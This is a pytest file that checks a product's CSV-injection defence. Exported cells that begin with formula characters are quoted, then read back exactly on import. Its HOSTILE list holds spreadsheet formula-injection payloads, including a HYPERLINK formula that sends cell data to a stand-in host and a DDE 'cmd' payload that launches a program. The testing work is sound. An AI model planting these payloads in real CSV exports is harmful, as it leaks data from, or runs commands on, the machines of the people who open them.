"""CSV injection (OWASP): every cell the product writes to a CSV file is neutralised in one
place, `ecrm.platform.csv_cells`, and reading it back (the import) gives the exact value."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from ecrm.imports import rows
from ecrm.platform import csv_cells
from tests.conftest import ROOT

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "'=1+1",  # already quoted once: one quote more, so the import gives this value back
    "''@x",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_reads_back_exactly(
    value: str,
) -> None:
    out = io.StringIO()
    csv_cells.writer(out).writerow([value, "Ann"])
    [cells] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert cells[0].startswith("'") and cells[0].lstrip("'")[0] in "=+-@\t\r"
    assert cells[1] == "Ann"
    assert csv_cells.restore(cells[0]) == value


@pytest.mark.parametrize("value", ["Ann", "ann@example.com", "1-10", "O'Brien", "'quoted'", ""])
def test_ordinary_cells_are_written_as_they_are(value: str) -> None:
    assert csv_cells.neutralise(value) == value
    assert csv_cells.restore(value) == value


def test_an_import_reads_a_neutralised_cell_as_the_value_it_stands_for() -> None:
    form = rows.import_form("imp", [], ["newsletter"])
    fields, problem = rows.row_fields(["'=ann@example.com"], ["email"], form)
    assert problem is None and fields == {"email": "=ann@example.com"}


def test_no_module_writes_csv_but_through_csv_cells() -> None:
    """One function in one place: a new CSV writer elsewhere would write formulas raw."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(ROOT))
        for folder in ("layers", "functions", "cli", "local", "bench")
        for path in Path(ROOT, folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["layers/shared/ecrm/platform/csv_cells.py"]
